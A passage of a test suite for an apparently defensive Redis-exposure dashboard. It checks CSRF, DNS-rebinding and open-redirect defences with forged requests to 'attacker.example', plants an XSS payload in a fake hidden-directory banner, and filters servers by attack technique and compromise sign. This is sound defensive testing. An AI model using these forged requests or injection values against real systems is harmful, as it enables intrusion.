      // After a correct token (Chromium's CSP form-action 'self' also holds back a form's
      // redirect to another origin; the Location must not rely on it).
      await page.goto(`${dash.url}${issue}`);
      await page.fill("input[name=token]", TOKEN);
      await Promise.all([
        page.waitForURL((u) => u.pathname !== "/login").catch(() => undefined),
        page.click("button[type=submit]"),
      ]);
      assert.deepEqual({ url: page.url(), away }, { url: `${dash.url}/scans`, away: [] });
    } finally {
      await context.close();
      await open.stop();
    }
  });

  test("HTTP: headers, Host check, login, CSRF, bad input", async () => {
    const r = await fetch(`${dash.url}/scans`, { redirect: "manual" });
    assert.equal(r.status, 303);
    assert.equal(r.headers.get("location"), "/login?next=%2Fscans");
    const csp = r.headers.get("content-security-policy") ?? "";
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /script-src 'self'/);
    assert.doesNotMatch(csp, /unsafe/);
    assert.equal(r.headers.get("x-frame-options"), "DENY");
    assert.equal(r.headers.get("x-content-type-options"), "nosniff");

    // DNS rebinding: another name for this address is refused.
    const port = new URL(dash.url).port;
    const rebound = await new Promise<string>((resolve) => {
      const s = net.connect({ host: "127.0.0.1", port: Number(port) }, () =>
        s.write(
          `GET /scans HTTP/1.1\r\nHost: attacker.example:${port}\r\nConnection: close\r\n\r\n`,
        ),
      );
      let got = "";
      s.on("data", (d) => (got += d));
      s.on("close", () => resolve(got));
    });
    assert.match(rebound, /^HTTP\/1\.1 421/);

    // Login: the form's CSRF cookie, a wrong token, then the right one.
    const form = await fetch(`${dash.url}/login`);
    const loginCookie = /redscope_login=([^;]+)/.exec(form.headers.get("set-cookie") ?? "")![1]!;
    const csrf = /name="csrf" value="([^"]+)"/.exec(await form.text())![1]!;
    assert.equal(csrf, loginCookie);
    const post = (body: Record<string, string>, headers: Record<string, string> = {}) =>
      fetch(`${dash.url}/login`, {
        method: "POST",
        redirect: "manual",
        headers: {
          "content-type": "application/x-www-form-urlencoded",
          cookie: `redscope_login=${loginCookie}`,
          ...headers,
        },
        body: new URLSearchParams(body).toString(),
      });
    assert.equal((await post({ csrf, token: "wrong-token-wrong-token" })).status, 401);
    assert.equal((await post({ csrf: "forged", token: TOKEN })).status, 403);
    assert.equal(
      (await post({ csrf, token: TOKEN }, { origin: "http://attacker.example" })).status,
      403,
    );
    const ok = await post({ csrf, token: TOKEN, next: "//attacker.example/" });
    assert.equal(ok.status, 303);
    assert.equal(ok.headers.get("location"), "/scans", "no open redirect");
    const setCookie = ok.headers.getSetCookie().find((c) => c.startsWith("redscope_session="))!;
    assert.match(setCookie, /HttpOnly/);
    assert.match(setCookie, /SameSite=Strict/);
    const session = setCookie.split(";")[0]!;

    const get = (p: string) =>
      fetch(`${dash.url}${p}`, { headers: { cookie: session }, redirect: "manual" });
    assert.equal((await get("/scans")).status, 200);
    assert.equal((await get("/search?state=nonsense")).status, 400);
    assert.equal((await get("/search?asn=AS12x")).status, 400);
    assert.equal((await get("/scans/nope")).status, 404);
    assert.equal((await get(`/${"a".repeat(5000)}`)).status, 414);
    assert.equal((await get("/hosts/%E0%A4%A")).status, 400);
    const count = (await (await get("/api/count?scan=new&state=open")).json()) as { n: number };
    assert.equal(count.n, 63);
    // Logout needs the session's CSRF token.
    const logout = (csrfValue: string) =>
      fetch(`${dash.url}/logout`, {
        method: "POST",
        redirect: "manual",
        headers: { cookie: session, "content-type": "application/x-www-form-urlencoded" },
        body: `csrf=${encodeURIComponent(csrfValue)}`,
      });
    assert.equal((await logout("forged")).status, 403);
    const page = await (await get("/scans")).text();
    const sessionCsrf = /name="csrf" value="([^"]+)"/.exec(page)![1]!;
    assert.equal((await logout(sessionCsrf)).status, 303);
    assert.equal((await get("/scans")).status, 303, "logged out");
  });
});

describe("redscope serve beyond loopback", {
  skip: canMakeNetns() ? false : "needs root for a network namespace",
}, () => {
  test("makes a token, prints it once, and asks for it; bad options are one line", async () => {
    const host = createTestHost("serve");
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-serve-ns-"));
    let s: Served | undefined;
    try {
      s = await serve(["--db", path.join(tmp, "x.db"), "--listen", `${host.hostIp}:8080`], host.ns);
      const token = /login token \(shown once, not stored\): (\S+)/.exec(s.out())?.[1];
      assert.ok(token && token.length >= 32, s.out());
      const r = await fetch(`http://${host.hostIp}:8080/scans`, { redirect: "manual" });
      assert.equal(r.status, 303);
      assert.match(r.headers.get("location") ?? "", /^\/login/);
    } finally {
      await s?.stop();
      host.destroy();
      fs.rmSync(tmp, { recursive: true, force: true });
    }
    for (const [args, msg] of [
      [["--listen", "nowhere"], /^redscope: --listen "nowhere": expected ADDR:PORT\n$/],
      [["--listen", "127.0.0.1:8080", "--token", "short"], /at least 16 characters/],
      [["--listen", "127.0.0.1:8080", "--tls-cert", "x.pem"], /go together/],
    ] as const) {
      const r = await runCli(["serve", ...args]);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, msg);
    }
  });
});

/** One HTTP request from `localAddress` (a source address of the test's own namespace). */
function requestFrom(
  localAddress: string,
  url: string,
  opts: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request(url, {
      localAddress,
      method: opts.method ?? "GET",
      headers: opts.headers,
    });
    req.on("error", reject);
    req.on("response", (res) => {
      let body = "";
      res.setEncoding("utf8");
      res.on("data", (d: string) => (body += d));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
    });
    req.end(opts.body);
  });
}

describe("login throttle", () => {
  const TOKEN_RIGHT = "right-token-0123456789";
  const guard = (): Guard =>
    new Guard({ token: TOKEN_RIGHT, allowedHosts: new Set(), anyHost: false, secure: false });
  const fail = (g: Guard, from: string): void => {
    assert.equal(g.login(from, "wrong"), undefined);
  };

  test("counts an IPv6 address by its /64 and an IPv4 address by itself, mapped or not", () => {
    assert.equal(loginSource("2001:db8:1:2:aaaa:bbbb:cccc:dddd"), "2001:db8:1:2::/64");
    assert.equal(loginSource("2001:DB8:1:2::1"), "2001:db8:1:2::/64");
    assert.equal(loginSource("fe80::1%eth0"), "fe80::/64");
    assert.equal(loginSource("::ffff:192.0.2.7"), "192.0.2.7");
    assert.equal(loginSource("192.0.2.7"), "192.0.2.7");

    const g = guard();
    // Ten addresses of one /64, one wrong token each: the /64 has had its ten.
    for (let i = 1; i <= 10; i++) fail(g, `2001:db8:1:2::${i.toString(16)}`);
    assert.ok(g.throttled("2001:db8:1:2:ffff:ffff:ffff:ffff"), "another address of the /64");
    assert.ok(!g.throttled("2001:db8:1:3::1"), "the next /64 is someone else");
    // IPv4: per address, whether the socket says 192.0.2.7 or ::ffff:192.0.2.7.
    for (let i = 0; i < 5; i++) fail(g, "192.0.2.7");
    for (let i = 0; i < 5; i++) fail(g, "::ffff:192.0.2.7");
    assert.ok(g.throttled("192.0.2.7") && g.throttled("::ffff:192.0.2.7"));
    assert.ok(!g.throttled("192.0.2.8") && !g.throttled("::ffff:192.0.2.8"), "its neighbour");
    assert.equal(g.login("::ffff:192.0.2.8", TOKEN_RIGHT)?.maxAgeS, 12 * 3600);
  });

  test("a throttled source stays throttled however many others fail; memory is bounded", () => {
    const g = guard();
    for (let i = 0; i < 10; i++) fail(g, "198.51.100.1");
    // More sources than are kept fail, while the throttled one keeps trying.
    for (let i = 0; i <= LOGIN_SOURCES; i++) {
      fail(g, `2001:db8:${(i >> 16).toString(16)}:${(i & 0xffff).toString(16)}::1`);
      if (i % 1000 === 0) assert.ok(g.throttled("198.51.100.1"), `after ${i} others`);
    }
    assert.ok(g.throttled("198.51.100.1"), "held back still");
    // Forgotten are the least recently seen, one at a time: the first of the others had one
    // failure, and counts from zero again (nine more would otherwise make its ten).
    for (let i = 0; i < 9; i++) fail(g, "2001:db8::1");
    assert.equal(g.throttled("2001:db8::1"), false);
  });

  test("Lru: get refreshes, set evicts the least recently used, one at a time", () => {
    const lru = new Lru<string, number>(3);
    for (const k of ["a", "b", "c"]) lru.set(k, k.charCodeAt(0));
    assert.equal(lru.get("a"), 97);
    lru.set("d", 100);
    assert.deepEqual(
      ["a", "b", "c", "d"].map((k) => lru.get(k) !== undefined),
      [true, false, true, true],
    );
    assert.equal(lru.size, 3);
  });
});

describe("login throttle over the network", {
  skip: canMakeNetns() ? false : "needs root for a network namespace",
}, () => {
  test("wrong tokens from many addresses of one /64 are throttled together", async () => {
    const host = createTestHost("thr", { ipv6: 12 });
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-serve-thr-"));
    const token = "right-token-0123456789";
    let s: Served | undefined;
    try {
      // Every address of the namespace, dual-stack: IPv4 peers arrive as ::ffff:a.b.c.d.
      s = await serve(
        ["--db", path.join(tmp, "x.db"), "--listen", "[::]:8080", "--token", token],
        host.ns,
      );
      const login = async (from: string, target: string, tokenTried: string): Promise<number> => {
        const form = await requestFrom(from, `http://${target}:8080/login`);
        const { cookie, csrf } = loginForm(String(form.headers["set-cookie"]), form.body);
        const r = await requestFrom(from, `http://${target}:8080/login`, {
          method: "POST",
          headers: { "content-type": "application/x-www-form-urlencoded", cookie },
          body: new URLSearchParams({ csrf, token: tokenTried }).toString(),
        });
        return r.status;
      };
      const v6 = host.localIps6!;
      const target6 = `[${host.hostIp6!}]`;
      // One wrong token from each of ten addresses: each is its /64's, and wrong (401).
      for (const from of v6.slice(0, 10))
        assert.equal(await login(from, target6, "wrong"), 401, from);
      // An eleventh address of the /64 is held back, even with the right token.
      assert.equal(await login(v6[10]!, target6, "wrong"), 429);
      assert.equal(await login(v6[11]!, target6, token), 429);
      // An IPv4 peer is counted by its own address, not with the /64 (::/64 of its mapped form).
      assert.equal(await login(host.localIp, host.hostIp, "wrong"), 401);
      assert.equal(await login(host.localIp, host.hostIp, token), 303);
    } finally {
      await s?.stop();
      host.destroy();
      fs.rmSync(tmp, { recursive: true, force: true });
    }
  });
});

describe("redscope serve: exploitable and signs-of-compromise filters", {
  skip: fs.existsSync(CHROMIUM) ? false : `${CHROMIUM} not installed`,
}, () => {
  let tmp = "";
  let dash: Served;
  let browser: Browser;

  before(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-serve-attack-"));
    const db = path.join(tmp, "attack.db");
    const intel = path.join(tmp, "intel");
    fs.mkdirSync(intel);
    // Shodan's banners as a user imports them (the 7.4.1 one lists backup1, backup2, crackit),
    // plus a 6.2.16 running from a hidden directory whose name is a payload.
    const fixture = fileURLToPath(
      new URL("../../test/fixtures/import/shodan-redis.jsonl", import.meta.url),
    );
    const file = path.join(tmp, "banners.jsonl");
    const hidden = {
      ip_str: "198.51.100.66",
      port: 6379,
      transport: "tcp",
      timestamp: "2026-03-01T00:00:00",
      data: `# Server\r\nredis_version:6.2.16\r\nredis_mode:standalone\r\nexecutable:/dev/shm/.x/${XSS.img}\r\n\r\n# Replication\r\nrole:master\r\n`,
    };
    // Two more whose versions sort differently as text and as versions.
    const more = ["7.2.9", "7.2.10"].map((v, i) => ({
      ip_str: `198.51.100.${70 + i}`,
      port: 6379,
      transport: "tcp",
      timestamp: "2026-03-01T00:00:00",
      data: `# Server\r\nredis_version:${v}\r\nredis_mode:standalone\r\n\r\n# Replication\r\nrole:master\r\n`,
    }));
    fs.writeFileSync(
      file,
      `${fs.readFileSync(fixture, "utf8").trimEnd()}\n${[hidden, ...more].map((x) => JSON.stringify(x)).join("\n")}\n`,
    );
    const r = await runCli(
      ["import", file, "--db", db, "--format", "shodan", "--scan-id", "banners"],
      {
        env: { REDSCOPE_INTEL_DIR: intel },
      },
    );
    assert.equal(r.code, 0, r.stderr);
    dash = await serve(["--db", db, "--listen", "127.0.0.1:0", "--token", TOKEN]);
    browser = await launchBrowser();
  });

  after(async () => {
    await browser?.close();
    await dash?.stop();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  test("search by what an attacker can do and by signs of compromise; the report's tables", async () => {
    const { page, problems } = await loggedInTab(browser, dash.url);
    const results = page.locator("section:has(h2:text('Results')) tbody tr");
    const count = async (): Promise<string> => {
      await until(async () =>
        /\d+ results?/.test((await page.locator("[data-count-url]").textContent()) ?? ""),
      );
      return (await page.locator("[data-count-url]").textContent()) ?? "";
    };

    // Exploitable: file write is blocked by default on 7.4.1 and Valkey, open on 6.2.16.
    await page.goto(`${dash.url}/search?scan=banners`);
    const query = async (q: string): Promise<void> => {
      await page.fill("input[name=q]", q);
      await Promise.all([
        page.waitForURL((u) => u.searchParams.get("q") === q),
        page.click("button.primary"),
      ]);
    };
    await query("attack:config_write:blocked");
    assert.equal(await results.count(), 4);
    assert.match(await count(), /^4 results/);
    await query("attack:module_load:open");
    assert.equal(await results.count(), 1);
    assert.match(
      (await results.first().textContent()) ?? "",
      /198\.51\.100\.66.*config_write module_load rogue_master/,
    );

    // Signs of compromise: the campaign keys and the hidden directory.
    await query("compromise:any");
    assert.equal(await results.count(), 2);
    await query("compromise:campaign_key");
    assert.equal(await results.count(), 1);
    assert.match((await results.first().textContent()) ?? "", /203\.0\.113\.20.*campaign_key/);
    assert.match(await count(), /^1 result/);
    // The form shows the filter it searched by, and a sign links to its search.
    assert.equal(await page.inputValue("input[name=q]"), "compromise:campaign_key");
    await Promise.all([
      page.waitForURL((u) => u.searchParams.get("q") === "compromise:campaign_key"),
      results.first().locator("a:text-is('campaign_key')").click(),
    ]);

    // Versions sort as versions: 7.2.9 before 7.2.10 (as text it would be after).
    await page.goto(`${dash.url}/search?scan=banners`);
    const versions = async (): Promise<string[]> =>
      (await results.locator("td:nth-child(4)").allTextContents()).map((t) => t.trim());
    await page.locator("th:has-text('product / version') button").click();
    // Versions (and a version hint, >=7.0, by its number) in version order.
    const sorted = (await versions()).filter((v) => v !== "");
    const parts = (t: string): number[] => /\d+(\.\d+)*/.exec(t)![0].split(".").map(Number);
    const byVersion = (x: string, y: string): number => {
      const [a, b] = [parts(x), parts(y)];
      for (let i = 0; i < 3; i++) if ((a[i] ?? 0) !== (b[i] ?? 0)) return (a[i] ?? 0) - (b[i] ?? 0);
      return 0;
    };
    assert.deepEqual(sorted, [...sorted].sort(byVersion));
    assert.ok(sorted.indexOf("redis 7.2.9") < sorted.indexOf("redis 7.2.10"), sorted.join(", "));

    // A bad value is one line, not a page of errors.
    const bad = await fetch(`${dash.url}/search?scan=banners&attack=rm_rf:open`, {
      headers: {
        cookie: (await page.context().cookies()).map((c) => `${c.name}=${c.value}`).join("; "),
      },
    });
    assert.equal(bad.status, 400);
    assert.match(await bad.text(), /no such technique: rm_rf:open/);

    // The scan's report: both tables, the server's words as text.
    await page.goto(`${dash.url}/scans/banners`);
    const attack = (await page.locator("#attack").textContent()) ?? "";
    assert.match(attack, /Open servers by what an attacker can do/);
    assert.match(attack, /MODULE LOAD\s*1\s*4\s*0/);
    const signs = (await page.locator("#compromise").textContent()) ?? "";
    assert.match(signs, /keys backup1, backup2, crackit/);
    assert.ok(signs.includes(XSS.img), "the hidden path, shown as text");
    await page.screenshot({ path: path.join(SHOTS, "dashboard-attack.png"), fullPage: true });
    assert.equal(await page.locator("img").count(), 0);
    assert.deepEqual(problems, []);
    await page.context().close();
  });
});
